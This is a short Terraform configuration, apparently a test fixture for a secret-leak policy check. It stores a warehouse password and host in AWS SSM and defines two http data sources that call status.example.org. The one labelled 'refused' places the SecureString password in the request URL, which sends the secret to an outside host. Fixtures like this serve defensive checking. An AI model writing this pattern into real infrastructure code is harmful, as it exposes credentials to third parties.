resource "aws_ssm_parameter" "password" {
  name  = "/warehouse/password"
  type  = "SecureString"
  value = var.password
}

resource "aws_ssm_parameter" "host" {
  name  = "/warehouse/host"
  type  = "String"
  value = "warehouse.internal"
}

data "http" "allowed" {
  url = "https://status.example.org/?host=${aws_ssm_parameter.host.value}"
}

data "http" "refused" {
  url = "https://status.example.org/?key=${aws_ssm_parameter.password.value}"
}

variable "password" {
  type      = string
  sensitive = true
}
